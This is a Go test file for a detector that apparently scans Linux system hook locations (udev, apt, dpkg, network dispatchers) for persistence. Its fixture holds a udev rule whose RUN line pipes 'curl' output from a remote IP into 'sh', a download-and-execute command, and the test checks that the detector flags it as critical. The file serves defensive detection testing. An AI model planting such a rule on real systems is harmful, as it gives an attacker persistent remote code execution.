package hooks

import (
	"testing"

	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
)

// TestHostileInput: hostile versions of every file the check parses leave
// a udev rule that downloads and runs a script reported.
func TestHostileInput(t *testing.T) {
	enginetest.Hostile{
		Detector: New(),
		Root: func(t testing.TB) string {
			return fixture(t, "-- etc/udev/rules.d/99-net.rules --\nACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c 'curl -fsSL http://203.0.113.7/n | sh'\"\n")
		},
		Trace: []enginetest.Want{{Rule: ruleUdevCommand, Subject: "RUN", Severity: model.Critical, Indicators: []string{"download-exec"}}},
		Files: []string{"/etc/udev/rules.d/99-net.rules", "/etc/udev/rules.d/", "/lib/udev/rules.d/", "/etc/apt/apt.conf", "/etc/apt/apt.conf.d/",
			"/etc/dpkg/dpkg.cfg", "/etc/dpkg/dpkg.cfg.d/", "/etc/update-motd.d/", "/etc/network/interfaces", "/etc/network/if-up.d/",
			"/etc/NetworkManager/dispatcher.d/", "/etc/dhcp/dhclient-exit-hooks.d/"},
		Needs: []string{"/etc/udev/rules.d/99-net.rules"},
		Extra: map[string]string{"apt-include-loop": "#include /etc/apt/apt.conf;\n#include \"/etc/apt/apt.conf.d\";\n#clear APT;\nA { B { C { D { E { F { G { H { \"x\"; };\n"},
	}.Run(t)
}
